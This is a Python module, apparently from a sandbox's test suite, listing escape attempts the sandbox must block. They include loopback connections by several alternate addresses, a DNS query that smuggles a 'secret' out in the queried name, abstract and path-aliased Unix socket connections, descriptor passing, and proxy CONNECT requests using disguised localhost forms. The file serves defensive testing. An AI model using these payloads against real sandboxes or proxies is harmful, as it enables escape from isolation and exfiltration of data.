"""Getting out: over the network, sockets with and without files, descriptors that others pass, the proxy."""

from __future__ import annotations

from attacks.attack import Attack, Off
from attacks.scene import Scene

_STRANGER = Off(where="stranger")
_SEEN = Off(world="unseen")
_LAX = Off(where="stranger", proxy=True)


def _pass_on(scene: Scene) -> str:
    scene.witnesses.pass_a_descriptor()
    return ""


ATTACKS = (
    Attack(
        "connect to a server of the host",
        ("network namespace",),
        "socket.create_connection(('127.0.0.1', aim.ports[0]), 1)",
        Scene.arrived,
        _STRANGER,
    ),
    Attack(
        "connect to the host by its other addresses",
        ("network namespace",),
        """
        for address in ("::1", "::ffff:127.0.0.1", "0.0.0.0", "127.1.2.3", "localhost"):
            with contextlib.suppress(OSError):
                socket.create_connection((address, aim.ports[0]), 1)
        """,
        Scene.arrived,
        _STRANGER,
    ),
    Attack(
        "send a packet to the host",
        ("network namespace",),
        "socket.socket(2, 2).sendto(b'x', ('127.0.0.1', aim.ports[1]))",
        Scene.arrived,
        _STRANGER,
    ),
    Attack(
        "ask a name server with a secret in the name",
        ("network namespace",),
        """
        question = struct.pack("!6H", 1, 256, 1, 0, 0, 0) + b"\\6secret\\7example\\3org\\0\\0\\1\\0\\1"
        socket.socket(2, 2).sendto(question, ("127.0.0.1", aim.ports[1]))
        """,
        Scene.arrived,
        _STRANGER,
    ),
    Attack(
        "connect to a socket without a file",
        ("network namespace",),
        "socket.socket(socket.AF_UNIX).connect('\\0' + aim.abstract)",
        Scene.arrived,
        _STRANGER,
    ),
    Attack(
        "connect to the stop socket",
        ("not mounted",),
        "socket.socket(socket.AF_UNIX).connect(aim.stop)",
        Scene.arrived,
        _SEEN,
    ),
    Attack(
        "connect to the stop socket by another name of the root",
        ("not mounted",),
        "socket.socket(socket.AF_UNIX).connect('/proc/self/root' + aim.stop)",
        Scene.arrived,
        _SEEN,
    ),
    Attack(
        "have somebody outside pass a descriptor",
        ("not mounted",),
        """
        line = socket.socket(socket.AF_UNIX)
        line.connect(aim.stop)
        print("ready", flush=True)
        _, (fd,), _, _ = socket.recv_fds(line, 1, 1)
        print(os.read(fd, 100))
        """,
        Scene.leaked,
        _SEEN,
        meanwhile=_pass_on,
    ),
    Attack(
        "use the proxy for a host that is not named",
        ("the proxy knows the named hosts only", "network namespace"),
        """
        line = socket.create_connection(("127.0.0.1", aim.proxy), 5)
        line.send(b"CONNECT 127.0.0.1:%d HTTP/1.1\\r\\n\\r\\n" % aim.ports[0])
        print(line.recv(1000))
        """,
        Scene.arrived,
        _LAX,
    ),
    Attack(
        "use the proxy for a named host that is the machine itself",
        ("the proxy reaches public addresses only", "network namespace"),
        """
        for target in (b"localhost", b"[::1]", b"0.0.0.0", b"2130706433", b"127.1", b"example.org@127.0.0.1"):
            with contextlib.suppress(OSError):
                line = socket.create_connection(("127.0.0.1", aim.proxy), 5)
                line.send(b"CONNECT %s:%d HTTP/1.1\\r\\n\\r\\n" % (target, aim.ports[0]))
                print(line.recv(1000))
        """,
        Scene.arrived,
        _LAX,
    ),
)
